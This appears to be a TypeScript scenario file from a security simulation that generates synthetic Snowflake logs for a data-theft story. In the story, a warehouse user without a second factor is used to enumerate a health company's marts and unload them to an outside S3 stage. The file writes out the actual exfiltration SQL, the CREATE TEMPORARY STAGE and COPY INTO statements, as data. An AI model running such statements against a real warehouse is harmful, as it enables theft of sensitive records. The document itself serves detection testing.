import { person } from '../company/people.js'
import { snowflakeUser, TABLES } from '../company/warehouse.js'
import type { Attack } from '../story.js'
import { loginRow, queryRows, type SnowflakeClient, type Statement } from '../vendors/snowflake.js'

const victim = person('nate.coleman')
const statement = (type: string, text: string, more: Partial<Statement> = {}): Statement => ({
  type,
  text,
  database: 'MARTS',
  schema: 'CARE',
  rows: 1,
  ...more,
})

export const snowflakeUnload: Attack = {
  id: 'snowflake-unload',
  title: 'A warehouse user without a second factor is used to carry the marts away',
  story:
    "nate.coleman's user still has the password it had before single sign-on, and an infostealer sold it. A script signs in from a rented network, lists what there is, makes a stage in somebody else's bucket and unloads table after table into it.",
  techniques: ['T1078.004', 'T1087.004', 'T1213', 'T1567.002'],
  identities: [victim.email],
  at: 0.63,
  hour: 4.6,
  minSeverity: 'high',
  play(stage) {
    const user = snowflakeUser(victim)
    const client: SnowflakeClient = {
      ip: stage.address('amsterdam-m247').ip,
      type: 'SNOWSQL',
      version: '1.2.32',
      factor: 'PASSWORD',
    }
    const session = stage.random.int(1e12, 9e12)
    const ask = (what: Statement, decisive = false) => {
      stage.wait(2, 25)
      for (const row of queryRows(stage.random, stage.at, session, user, what))
        stage.write('snowflake', row, decisive)
    }
    stage.write('snowflake', loginRow(stage.random, stage.at, user, client), true)
    for (const text of [
      'SHOW DATABASES',
      'SHOW ROLES',
      'SHOW GRANTS TO USER "NATE.COLEMAN@MERIDIAN-HEALTH.EXAMPLE"',
      'SHOW TABLES IN ACCOUNT',
      'SHOW STAGES IN ACCOUNT',
    ])
      ask(statement('SHOW', text))
    for (const table of TABLES.marts)
      ask(statement('SELECT', `SELECT COUNT(*) FROM ${table}`, { reads: [table] }))
    ask(
      statement(
        'CREATE',
        "CREATE TEMPORARY STAGE marts.care.tmp_sync URL = 's3://cdn-sync-eu-4471/in/' CREDENTIALS = (AWS_KEY_ID = '****' AWS_SECRET_KEY = '****')",
      ),
      true,
    )
    for (const table of TABLES.marts) {
      stage.wait(20, 200)
      const rows = stage.random.int(8_000_000, 42_000_000)
      ask(
        statement(
          'UNLOAD',
          `COPY INTO @marts.care.tmp_sync/${table.toLowerCase()} FROM ${table} FILE_FORMAT = (TYPE = PARQUET) HEADER = TRUE`,
          {
            reads: [table],
            rows,
            unloaded: rows,
            bytesOut: rows * 260,
          },
        ),
        true,
      )
    }
  },
}
